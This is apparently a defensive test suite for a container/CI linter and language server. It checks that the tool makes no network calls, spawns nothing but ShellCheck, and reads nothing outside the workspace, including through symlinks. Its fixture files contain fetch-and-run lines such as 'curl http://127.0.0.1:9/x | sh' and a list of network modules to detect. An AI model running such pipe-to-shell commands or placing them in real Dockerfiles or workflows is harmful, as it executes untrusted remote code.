import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { diskWorkspace } from '../../server/src/engine/workspace';
import { findConfigFile } from '../../server/src/engine/config';
import { DIST, session } from './lsp-session';

const ROOT = path.resolve(__dirname, '../../..');
const TRAP = path.join(ROOT, 'test/robustness/network-trap.js');
const NETWORK_MODULES = ['net', 'http', 'https', 'http2', 'dgram', 'tls', 'dns', 'undici'];

/** Node built-ins a bundle requires, among the network modules and child_process. */
function riskyRequires(bundle: string): string[] {
  const text = fs.readFileSync(path.join(DIST, bundle), 'utf8');
  const found = new Set<string>();
  for (const m of text.matchAll(/require\("(?:node:)?([a-z_/0-9]+)"\)/g)) if ([...NETWORK_MODULES, 'child_process'].includes(m[1].split('/')[0])) found.add(m[1]);
  if (/\bfetch\(/.test(text)) found.add('fetch');
  return [...found].sort();
}

function sampleRepo(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-sec-'));
  fs.mkdirSync(path.join(dir, '.git'));
  fs.mkdirSync(path.join(dir, '.github/workflows'), { recursive: true });
  // Content that would do harm if anything ever executed or fetched it.
  fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM http://127.0.0.1:9/evil\nRUN curl http://127.0.0.1:9/x | sh\nHEALTHCHECK CMD wget -q http://127.0.0.1:9\n');
  fs.writeFileSync(path.join(dir, '.github/workflows/ci.yml'), 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/local\n      - uses: docker://127.0.0.1:9/img\n      - run: curl http://127.0.0.1:9 | sh\n');
  fs.writeFileSync(path.join(dir, 'k8s.yaml'), 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n    - name: c\n      image: 127.0.0.1:9/img\n');
  fs.writeFileSync(path.join(dir, '.shipshape.yaml'), 'profile: all\n');
  return dir;
}

describe('security: no network, no program but ShellCheck by absolute path', () => {
  it('the CLI bundle requires no network module (child_process is there for ShellCheck only)', () => {
    // The runtime tests below check that the only program ever started is ShellCheck, by absolute path, without a shell.
    assert.deepEqual(riskyRequires('cli.js'), ['child_process']);
  });

  it('the server bundle requires only net (vscode-jsonrpc socket/pipe transports) and child_process (ShellCheck)', () => {
    // net is only reached for `--socket`/`--pipe` transports; the runtime tests below prove no connection is made.
    assert.deepEqual(riskyRequires('server.js'), ['child_process', 'net']);
  });

  it('the trap itself catches network use and process spawning (so the tests below can fail)', () => {
    for (const code of ["require('https').get('https://127.0.0.1:9')", "require('net').connect(9, '127.0.0.1')", "fetch('http://127.0.0.1:9')", "require('child_process').execSync('true')"]) {
      const r = spawnSync(process.execPath, ['--require', TRAP, '-e', `try { ${code} } catch {}`], { encoding: 'utf8' });
      assert.match(r.stderr, /SHIPSHAPE-TRAP/, code);
    }
  });

  it('the CLI lints (and fixes) a repository with every network and process API trapped', () => {
    const dir = sampleRepo();
    for (const args of [['lint', '--format', 'json', '.'], ['lint', '--fix', '.'], ['lint', '--jobs', '2', '--format', 'sarif', '.']]) {
      const r = spawnSync(process.execPath, ['--require', TRAP, path.join(DIST, 'cli.js'), ...args], { cwd: dir, encoding: 'utf8' });
      assert.doesNotMatch(r.stderr, /SHIPSHAPE-TRAP/, args.join(' '));
      assert.ok(r.status === 0 || r.status === 1, `${args.join(' ')} exited ${r.status}: ${r.stderr}`);
    }
  });

  it('the server serves a whole session with every network and process API trapped', async () => {
    const dir = sampleRepo();
    const rootUri = `file://${dir}`;
    const s = await session({ rootUri, nodeArgs: ['--require', TRAP] });
    const docs = [['Dockerfile', 'dockerfile'], ['.github/workflows/ci.yml', 'yaml'], ['k8s.yaml', 'yaml']];
    try {
      for (const [name, languageId] of docs) s.open(`${rootUri}/${name}`, languageId, fs.readFileSync(path.join(dir, name), 'utf8'));
      s.conn.sendNotification('workspace/didChangeWatchedFiles', { changes: [{ uri: `${rootUri}/k8s.yaml`, type: 2 }, { uri: `${rootUri}/.dockerignore`, type: 1 }] });
      for (const [name] of docs) {
        const uri = `${rootUri}/${name}`;
        await s.diagnostics(uri, 1);
        await s.conn.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 3, character: 0 } }, context: { diagnostics: [] } });
        await s.conn.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line: 0, character: 6 } });
      }
    } finally {
      await s.stop();
    }
    assert.doesNotMatch(s.stderr(), /SHIPSHAPE-TRAP/);
  });
});

describe('security: nothing is read outside the workspace', () => {
  function layout() {
    const base = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-root-'));
    const root = path.join(base, 'ws');
    const outside = path.join(base, 'secret');
    fs.mkdirSync(path.join(root, 'app'), { recursive: true });
    fs.mkdirSync(outside);
    fs.writeFileSync(path.join(outside, 'token'), 'TOP SECRET');
    fs.writeFileSync(path.join(outside, '.shipshape.yaml'), 'profile: all\n');
    fs.writeFileSync(path.join(root, 'app', 'inside.txt'), 'fine');
    fs.symlinkSync(path.join(outside, 'token'), path.join(root, 'app', 'token-link'));
    fs.symlinkSync(outside, path.join(root, 'app', 'dir-link'));
    fs.symlinkSync(path.join(root, 'app', 'inside.txt'), path.join(root, 'inner-link'));
    return { base, root, outside };
  }

  it('refuses paths outside the root, with .. or through symlinks to files and folders', () => {
    const { root, outside } = layout();
    // The CLI's reader remembers real paths during a run (asked twice: the second answer comes from memory).
    for (const ws of [diskWorkspace(root), diskWorkspace(root, undefined, true)].flatMap((w) => [w, w])) {
      assert.equal(ws.readText(path.join(root, 'app', 'inside.txt')), 'fine');
      assert.equal(ws.readText(path.join(root, 'inner-link')), 'fine', 'a symlink that stays inside is fine');
      assert.equal(ws.readText(path.join(outside, 'token')), undefined);
      assert.equal(ws.readText(path.join(root, '..', 'secret', 'token')), undefined);
      assert.equal(ws.readText(path.join(root, 'app', 'token-link')), undefined);
      assert.equal(ws.readText(path.join(root, 'app', 'dir-link', 'token')), undefined);
      assert.equal(ws.exists(path.join(root, 'app', 'dir-link', 'token')), false);
      assert.equal(ws.exists(path.join(root, 'app', 'dir-link', 'missing')), false);
      assert.deepEqual(ws.list(path.join(root, 'app', 'dir-link')), []);
      assert.deepEqual(ws.list(outside), []);
    }
  });

  it('does not pick up a config file above the workspace root, nor through a symlinked folder', () => {
    const { root } = layout();
    const ws = diskWorkspace(root);
    assert.equal(findConfigFile(path.join(root, 'app', 'Dockerfile'), ws), undefined);
    assert.equal(findConfigFile(path.join(root, 'app', 'dir-link', 'Dockerfile'), ws), undefined);
  });
});
